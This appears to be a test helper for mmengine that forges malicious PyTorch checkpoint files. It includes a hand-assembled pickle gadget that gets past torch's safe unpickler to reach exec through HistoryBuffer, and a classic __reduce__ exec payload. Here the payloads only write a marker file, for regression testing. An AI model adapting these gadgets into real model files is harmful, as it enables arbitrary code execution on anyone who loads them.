"""Checkpoints an attacker would write: each runs a harmless payload (it creates a marker file)
if, and only if, the loader lets the file run code."""
import io
import pickle
import zipfile
from pathlib import Path

import torch


def _in_torch_archive(data_pkl: bytes, path: Path) -> Path:
    """A torch zip checkpoint whose object pickle is ``data_pkl``."""
    buffer = io.BytesIO()
    torch.save({}, buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as original, \
            zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as forged:
        for entry in original.infolist():
            payload = data_pkl if entry.filename.endswith('/data.pkl') else \
                original.read(entry.filename)
            forged.writestr(entry, payload)
    return path


def _global(module: str, name: str) -> bytes:
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def _text(value: str) -> bytes:
    data = value.encode()
    return b'X' + len(data).to_bytes(4, 'little') + data


def _getattr(obj: bytes, name: str) -> bytes:
    return _global('builtins', 'getattr') + obj + _text(name) + pickle.TUPLE2 + pickle.REDUCE


def getattr_gadget(path: Path, marker: Path) -> Path:
    """Only opcodes torch's safe unpickler accepts, and the globals an mmengine checkpoint needs
    (``HistoryBuffer``, ``getattr``). ``getattr(getattr, '__self__')`` is the builtins module,
    whose ``exec`` is stored as the ``__setstate__`` of a HistoryBuffer's instance dict; the next
    BUILD of that object then calls ``exec`` on a string from the file."""
    exec_fn = _getattr(_getattr(_global('builtins', 'getattr'), '__self__'), 'exec')
    payload = f'open({str(marker)!r}, "w").write("pwned")'
    data = (pickle.PROTO + b'\x02'
            + _global('mmengine.logging.history_buffer', 'HistoryBuffer')
            + pickle.EMPTY_TUPLE + pickle.NEWOBJ
            + pickle.EMPTY_DICT + _text('__setstate__') + exec_fn + pickle.SETITEM
            + pickle.BUILD
            + _text(payload) + pickle.BUILD
            + pickle.STOP)
    return _in_torch_archive(data, path)


def history_buffer_method_gadget(path: Path, attribute: str) -> Path:
    """A HistoryBuffer whose statistics methods name ``getattr(HistoryBuffer, attribute)``."""
    history_buffer = _global('mmengine.logging.history_buffer', 'HistoryBuffer')
    data = (pickle.PROTO + b'\x02' + history_buffer + pickle.EMPTY_TUPLE + pickle.NEWOBJ
            + pickle.EMPTY_DICT + _text('statistics_methods')
            + pickle.EMPTY_DICT + _text('mean') + _getattr(history_buffer, attribute)
            + pickle.SETITEM + pickle.SETITEM + pickle.BUILD + pickle.STOP)
    return _in_torch_archive(data, path)


class _Payload:

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return exec, (f'open({str(self.marker)!r}, "w").write("pwned")', )


def reduce_payload(path: Path, marker: Path) -> Path:
    """The classic: an object whose ``__reduce__`` calls ``exec``, inside a real checkpoint."""
    torch.save(dict(state_dict={}, meta=_Payload(marker)), path)
    return path


MALICIOUS = dict(getattr_gadget=getattr_gadget, reduce_payload=reduce_payload)
